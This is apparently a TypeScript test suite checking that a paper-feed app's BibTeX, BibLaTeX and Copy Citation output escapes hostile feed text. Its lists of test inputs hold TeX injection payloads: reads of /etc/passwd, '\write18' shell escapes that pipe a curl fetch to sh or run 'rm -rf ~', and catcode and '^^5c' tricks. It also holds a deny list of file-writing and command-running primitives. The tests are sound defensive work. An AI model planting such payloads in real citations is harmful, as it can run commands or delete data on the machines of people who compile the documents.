/**
 * Feed text must never become TeX that does something when the document compiles: a title such as
 * "Scaling $\input{/etc/passwd}$ Laws" or an author named "\immediate\write18{…}" goes into the
 * project's .bib (Insert Citation, Export) or onto the clipboard (Copy Citation). Each entry is read
 * the way TeX reads it, and every control sequence must be one our escaping writes or one of the
 * math allowlist; no comment, no `^^` (TeX's `^^5c` is a backslash), no `#`, braces balanced.
 */
import * as assert from 'node:assert/strict';
import { biblatex, bibtex } from '../../src/core/citation/bibtex';
import { formatCitation } from '../../src/core/citation/format';
import { MATH_COMMANDS } from '../../src/core/citation/texMath';
import type { Paper } from '../../src/core/paper/model';
import { normalisePaperObject } from '../../src/core/paper/normalise';
import { parseStoredPaper } from '../../src/core/paper/stored';

function paper(title: string, authors: string[] = ['Ada Lovelace']): Paper {
  return { id: '2501.00001', title, authors: authors.map((name) => ({ name })), abstract: '', publishedAt: '2025-01-02' };
}

/** What Paper Feed's escaping writes: specials, accents, foreign letters, text symbols, Greek and symbols in math. */
const ESCAPING_WORDS = new Set(`textbackslash textbraceleft textbraceright textasciitilde textasciicircum textless textgreater textbar
ss ae AE o O aa AA oe OE l L i j dj DJ th TH dh DH ldots S P dag ddag textcopyright textregistered texttrademark pounds texteuro
textbullet u r H v c k d`.split(/\s+/));
/** `\{`, `\$`… and the accents `\'`, `\"`…; in allowlisted math also `\,`, `\;`, `\:`, `\!`, `\|`. Never `\\` or `\@`. */
const CONTROL_SYMBOLS = new Set(['{', '}', '$', '&', '%', '#', '_', "'", '`', '^', '~', '"', '=', '.', ',', ';', ':', '!', '|']);

/** Primitives and macros that read or write files, run commands, or change how TeX reads what follows. */
const DANGEROUS = `input include InputIfFileExists endinput write immediate openin openout read readline closein closeout
csname endcsname def edef gdef xdef let futurelet catcode lccode uccode mathcode expandafter noexpand scantokens
newcommand renewcommand providecommand DeclareRobustCommand usepackage RequirePackage documentclass begin end
special shipout jobname string meaning detokenize directlua pdfshellescape ShellEscape uppercase lowercase
afterassignment aftergroup everypar everymath everyjob output char mathchar makeatletter makeatother verb url href
includegraphics bibliography addbibresource message errmessage typeout relax globaldefs loop section space`.split(/\s+/);

interface Tokens {
  readonly words: string[];
  readonly symbols: string[];
  /** Raw characters TeX gives a meaning: `%` (comment), `#`, `&`, `$`, and `^^`. */
  readonly raw: string[];
}

/** The control sequences and meaningful raw characters of `tex`, read left to right as TeX does. */
function tokens(tex: string): Tokens {
  const words: string[] = [];
  const symbols: string[] = [];
  const raw: string[] = [];
  for (let index = 0; index < tex.length; index++) {
    const character = tex[index] as string;
    if (character === '\\') {
      const word = /^[A-Za-z]+/.exec(tex.slice(index + 1))?.[0];
      if (word) {
        words.push(word);
        index += word.length;
      } else {
        symbols.push(tex[index + 1] ?? '');
        index++;
      }
    } else if (character === '^' && tex[index + 1] === '^') {
      raw.push('^^');
      index++;
    } else if (/[%#&$]/.test(character)) {
      raw.push(character);
    }
  }
  return { words, symbols, raw };
}

/** The values of the entry's fields (`name = {value},`), each read to its closing brace as BibTeX does. */
function fields(entry: string): [string, string][] {
  const found: [string, string][] = [];
  for (const match of entry.matchAll(/^ {2}(\w+) = \{/gm)) {
    const start = (match.index ?? 0) + match[0].length;
    let depth = 1;
    let end = start;
    for (; end < entry.length && depth > 0; end++) {
      depth += entry[end] === '{' ? 1 : entry[end] === '}' ? -1 : 0;
    }
    assert.equal(depth, 0, `${match[1]} is never closed: ${entry}`);
    found.push([match[1] as string, entry.slice(start, end - 1)]);
  }
  return found;
}

/** Every way Paper Feed writes TeX for `source`: BibTeX and BibLaTeX entries, and Copy Citation in both. */
async function texOutputs(source: Paper): Promise<[string, string][]> {
  const options = { csl: (): never => assert.fail('BibTeX and BibLaTeX need no CSL engine') };
  return [
    ['bibtex', bibtex(source, 'k')],
    ['biblatex', biblatex(source, 'k')],
    ['copy bibtex', await formatCitation(source, 'bibtex', options)],
    ['copy biblatex', await formatCitation(source, 'biblatex', options)],
  ];
}

/** Asserts that `entry` does nothing in TeX but print: allowlisted control sequences only, no raw `%`, `#`, `&`, `^^`, braces balanced. */
function assertInert(entry: string, context: string, allowMath: boolean): void {
  const values = fields(entry);
  assert.deepEqual(values.map(([name]) => name).filter((name) => name === 'title' || name === 'author'), ['title', 'author'], `${context}: ${entry}`);
  assert.equal(values.length, entry.split('\n').filter((line) => / = \{/.test(line)).length, `${context}: a field hides another: ${entry}`);
  for (const [name, value] of values) {
    const where = `${context}: ${name} = {${value}}`;
    const { words, symbols, raw } = tokens(value);
    for (const word of words) {
      assert.ok(ESCAPING_WORDS.has(word) || MATH_COMMANDS.has(word), `\\${word} is neither our escaping nor allowlisted math in ${where}`);
    }
    for (const symbol of symbols) {
      assert.ok(CONTROL_SYMBOLS.has(symbol), `\\${symbol} is not a control symbol we write, in ${where}`);
    }
    // A `$` may only open or close math that passed the allowlist; a hostile title keeps none.
    assert.deepEqual(raw.filter((character) => !(allowMath && character === '$')), [], `raw % # & ^^ or math in ${where}`);
    let depth = 0;
    for (const character of value) {
      depth += character === '{' ? 1 : character === '}' ? -1 : 0;
      assert.ok(depth >= 0, `a brace closes early in ${where}`);
    }
    assert.equal(depth, 0, `a brace is left open in ${where}`);
  }
}

const HOSTILE_TITLES = [
  'Scaling $\\input{/etc/passwd}$ Laws',
  '$\\immediate\\write18{curl\\space evil.sh|sh}$',
  '$\\csname input\\endcsname{/etc/passwd}$',
  '$\\def\\section{\\relax}$',
  '$\\^^5cinput{/etc/passwd}$',
  '$^^5cinput{/etc/passwd}$',
  '$x^^5cinput{/etc/passwd}$',
  '$\\catcode$', '$\\let\\x\\y$', '$\\openin$', '$\\read$', '$\\expandafter$', '$\\usepackage$', '$\\begin{x}$',
  '$\\\\input$', '$\\\\input{x}$',
  '$\\text{\\input{x}}$', '$\\text{a^^5cinput}$', '$\\mathrm{\\input x}$',
  // Nested braces around a control word; an allowlisted word before a hostile one.
  '${{\\input}}$', '$\\mathbf{{x\\input{y}}}$', '$\\alpha\\input{x}$', '$\\sqrt{\\input{x}}$',
  // A control word split by a comment (TeX joins the lines), and one with a comment after it.
  '$\\in%\nput{/etc/passwd}$', '$\\inp%\nut$', '$\\alpha%$',
  // Control symbols that are not spacing or braces; characters TeX or babel give a meaning.
  '$\\@$', '$a@b$', '$\\ x$', '$\\#1$', '$x~y$', '$x"y$', '$#1$', '$a&b$',
  '$\\char92 input$', '$\\string\\input$', '$\\lowercase{\\INPUT}$', '$\\Input{x}$', '$\\makeatletter$',
  // Characters that fold to a backslash (NFKC): fullwidth and small reverse solidus.
  '$\uFF3Cinput{x}$', '$\uFE68input{x}$',
  // Outside math: control words, \@, and escapes the title already has next to them.
  '\\input{/etc/passwd} outside math', 'Hello\\@ world \\makeatletter', '\\$\\input{x}$', '\\\\$\\input{x}$',
  'a \\{\\input{x}\\}', '\\%\\input{x}', '\\immediate\\write18{rm -rf ~}',
];

const HOSTILE_NAMES = [
  'Ada \\input{/etc/passwd} Lovelace', '{\\input{/etc/passwd}}', 'Google \\immediate\\write18{x} DeepMind', '$\\input{x}$ Lab',
  'Ada ^^5cinput', 'Jean \\csname input\\endcsname', 'van \\input Damme', 'Martin King \\input Jr.', '\\def\\x{y} Research and Development Team',
  '山田 \\input{x}', 'Bob %\n\\input{x}', '# & % Team',
];

describe('no feed text becomes TeX that runs (BibTeX, BibLaTeX, Copy Citation)', () => {
  it('the math allowlist holds no command that reads, writes or redefines', () => {
    assert.deepEqual(DANGEROUS.filter((word) => MATH_COMMANDS.has(word)), []);
  });

  for (const title of HOSTILE_TITLES) {
    it(`title ${JSON.stringify(title)} is escaped as text`, async () => {
      for (const [format, entry] of await texOutputs(paper(title))) {
        assertInert(entry, format, false);
      }
    });
  }

  it('hostile author names: every part escaped', async () => {
    for (const [format, entry] of await texOutputs(paper('T', HOSTILE_NAMES))) {
      assertInert(entry, format, false);
    }
  });

  it('the other fields come only from values checked where the paper is read: id, category, dates', async () => {
    const hostile = '2501.00001\\input{/etc/passwd}';
    const fromFeed = normalisePaperObject({ id: '2501.00001', title: 'T', authors: [{ name: 'Ada' }], publishedAt: hostile, submittedOnDailyAt: hostile });
    const fromFile = parseStoredPaper({
      id: '2501.00001', title: 'T', authors: ['Ada'], primaryCategory: 'cs.\\input{x}', firstVersionDate: '2025-01-02\\input{x}', publishedAt: hostile,
    });
    assert.equal(normalisePaperObject({ id: hostile, title: 'T', authors: [{ name: 'Ada' }] }), undefined);
    assert.equal(parseStoredPaper({ id: hostile, title: 'T', authors: ['Ada'] }), undefined);
    for (const source of [fromFeed, fromFile]) {
      assert.ok(source);
      for (const [format, entry] of await texOutputs(source)) {
        assertInert(entry, format, false);
        assert.doesNotMatch(entry, /input/, `${format}: ${entry}`);
      }
    }
  });

  const title = (text: string, write = bibtex): string => (fields(write(paper(text), 'k')).find(([name]) => name === 'title') as [string, string])[1];

  it('keeps the math a paper title really holds, and it passes the same check', async () => {
    const kept: [string, string][] = [
      ['$\\alpha$-Divergence', '{$\\alpha$}-Divergence'],
      ['Search in $O(n\\log n)$', 'Search in {$O(n\\log n)$}'],
      ['$\\mu$P Transfer', '{$\\mu$}{P} Transfer'],
      ['$\\mathcal{O}(1)$ Memory', '{$\\mathcal{O}(1)$} Memory'],
      ['$k$-NN', '{$k$}-{NN}'],
      ['$\\ell_1$ Penalty', '{$\\ell_1$} Penalty'],
      ['$\\sqrt{n}$ Regret', '{$\\sqrt{n}$} Regret'],
      ['At $10^{-3}$ Error', 'At {$10^{-3}$} Error'],
      ['$\\text{KL}(p\\,\\|\\,q)$ Bounds', '{$\\text{KL}(p\\,\\|\\,q)$} Bounds'],
      ['$\\operatorname*{arg\\,max}_{x}$ and $\\mathbb{R}^d$', '{$\\operatorname*{arg\\,max}_{x}$} and {$\\mathbb{R}^d$}'],
      ['$\\left(\\frac{1}{2}\\right)$-Approximation', '{$\\left(\\frac{1}{2}\\right)$}-Approximation'],
      ['$α_1$ and $x \\le y$', '{${\\alpha}_1$} and {$x \\le y$}'],
      ['$\\texttt{SWE-bench}$ Scores', '{$\\texttt{SWE-bench}$} Scores'],
      ['$\\emph{Not}$ and $x^\\dagger$', '{$\\emph{Not}$} and {$x^\\dagger$}'],
    ];
    for (const [source, expected] of kept) {
      assert.equal(title(source), expected, source);
      for (const [format, entry] of await texOutputs(paper(source))) {
        assertInert(entry, `${format} ${source}`, true);
      }
    }
    assert.equal(title('$α_1$', biblatex), '{$α_1$}');
  });

  it('keeps as math only braces TeX balances too: an escaped brace is a character to TeX', () => {
    for (const source of ['$\\{x}$ Sets', '${x\\}$ Sets']) {
      assert.doesNotMatch(title(source), /\{\$/, `${source} is not kept as math: ${title(source)}`);
    }
    assert.equal(title('$\\{x\\}$ Sets'), '{$\\{x\\}$} Sets', 'both escaped: balanced for both');
  });

  it('reads only the TeX escapes a title may hold as characters; any other backslash is printed', () => {
    assert.equal(title('\\$OneMillion-Bench'), '\\${OneMillion-Bench}');
    assert.equal(title('Prefill \\& Decode, 50\\% \\#1 a\\_b'), 'Prefill \\& Decode, 50\\% \\#1 a\\_b');
    assert.equal(title('\\input{x} \\@ \\\\'), '\\textbackslash{}input\\{x\\} \\textbackslash{}@ \\textbackslash{}\\textbackslash{}');
    assert.equal(title('Scaling $\\input{/etc/passwd}$ Laws'), 'Scaling \\$\\textbackslash{}input\\{/etc/passwd\\}\\$ Laws');
  });
});
